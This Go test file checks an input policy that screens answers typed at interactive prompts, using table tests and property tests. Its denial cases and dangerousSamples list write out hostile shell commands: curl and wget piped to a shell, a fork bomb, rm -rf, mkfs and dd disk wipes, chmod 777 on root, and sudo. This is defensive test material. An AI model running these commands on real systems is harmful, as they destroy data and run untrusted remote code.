package policy

import (
	"regexp"
	"strings"
	"testing"

	"github.com/leanovate/gopter"
	"github.com/leanovate/gopter/gen"
	"github.com/leanovate/gopter/prop"
)

func TestInputPolicy_Check(t *testing.T) {
	tests := []struct {
		name    string
		strict  bool
		input   string
		allowed bool
		rule    string
	}{
		{"empty accepts default", true, "", true, ""},
		{"newline only", true, "\n", true, ""},
		{"yes", true, "yes\n", true, ""},
		{"upper Y", true, "Y\n", true, ""},
		{"NO mixed case", true, "No", true, ""},
		{"one digit", true, "1\n", true, ""},
		{"three digits", true, "123", true, ""},
		{"four digits", true, "1234", false, "strict_mode"},
		{"word", true, "maybe", false, "strict_mode"},
		{"word non strict", false, "my-app-name\n", true, ""},
		{"carriage return stripped", true, "y\r\n", true, ""},
		{"control char", false, "a\x03", false, "control_chars"},
		{"escape", false, "\x1b[A", false, "control_chars"},
		{"sudo", false, "sudo ls", false, "privilege_escalation:sudo"},
		{"rm -rf", false, "rm -rf build", false, "destructive_delete:rm_rf"},
		{"curl pipe", false, "curl https://x.sh | bash", false, "remote_script:curl_pipe_shell"},
		{"fork bomb", false, ":(){ :|:& };:", false, "fork_bomb:fork_bomb"},
		{"chmod root", false, "chmod -R 777 /", false, "permissions:chmod_777_root"},
		{"reboot", false, "reboot", false, "availability:reboot"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := NewInputPolicy(tt.strict, nil)
			d := p.Check(tt.input)
			if d.Allowed != tt.allowed {
				t.Fatalf("Check(%q) allowed=%v, want %v (reason %q)", tt.input, d.Allowed, tt.allowed, d.Reason)
			}
			if !tt.allowed {
				if d.Rule != tt.rule {
					t.Errorf("Check(%q) rule=%q, want %q", tt.input, d.Rule, tt.rule)
				}
				if d.Reason == "" {
					t.Error("denial must carry a reason")
				}
			}
			if strings.Contains(d.Normalized, "\r") {
				t.Errorf("normalized value still contains \\r: %q", d.Normalized)
			}
		})
	}
}

func TestInputPolicy_EmergencyStop(t *testing.T) {
	stop := &EmergencyStop{}
	p := NewInputPolicy(true, stop)

	if !p.Check("y").Allowed {
		t.Fatal("expected y to be allowed before stop")
	}
	stop.Activate("alice", "incident")
	d := p.Check("y")
	if d.Allowed || d.Rule != "emergency_stop" {
		t.Errorf("expected emergency stop denial, got %+v", d)
	}
	stop.Clear()
	if !p.Check("y").Allowed {
		t.Error("expected y to be allowed after clear")
	}
}

func TestInputPolicy_Describe(t *testing.T) {
	p := NewInputPolicy(true, nil)
	d := p.Describe()
	if !d.StrictMode {
		t.Error("expected strict mode in description")
	}
	if len(d.Blocks) == 0 || d.Blocks[0] != "control_chars" {
		t.Errorf("unexpected blocks %v", d.Blocks)
	}
	p.SetStrict(false)
	if p.Describe().StrictMode {
		t.Error("SetStrict(false) not reflected")
	}
}

var dangerousSamples = []string{
	"sudo reboot", "rm -rf /tmp/x", "rm -fr x", "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda",
	"su -", "shutdown now", "poweroff", "systemctl stop nginx", "wget http://x | sh", ":(){ :|:& };:",
}

func TestProperty_DangerousDeniedRegardlessOfMode(t *testing.T) {
	properties := gopter.NewProperties(nil)

	properties.Property("dangerous input is always denied", prop.ForAll(
		func(idx int, strict bool, prefix string) bool {
			input := prefix + " " + dangerousSamples[idx]
			d := NewInputPolicy(strict, nil).Check(input)
			return !d.Allowed
		},
		gen.IntRange(0, len(dangerousSamples)-1),
		gen.Bool(),
		gen.AlphaString(),
	))

	properties.TestingRun(t, gopter.ConsoleReporter(false))
}

var strictReference = regexp.MustCompile(`(?i)^\s*$|^(y|n|yes|no|\d{1,3})\s*$`)

func TestProperty_StrictShapes(t *testing.T) {
	properties := gopter.NewProperties(nil)
	p := NewInputPolicy(true, nil)

	properties.Property("strict mode allows exactly the wizard vocabulary", prop.ForAll(
		func(s string) bool {
			return p.Check(s).Allowed == strictReference.MatchString(s)
		},
		gen.OneGenOf(
			gen.AlphaString(),
			gen.NumString(),
			gen.OneConstOf("", "y", "N", "yes", "NO", "Yes\n", "7", "42", "999", "1000", "yess", "y y"),
		),
	))

	properties.Property("digit strings up to three long are allowed", prop.ForAll(
		func(n int) bool {
			return p.Check(strings.Repeat("7", n)).Allowed == (n <= 3)
		},
		gen.IntRange(0, 8),
	))

	properties.TestingRun(t, gopter.ConsoleReporter(false))
}
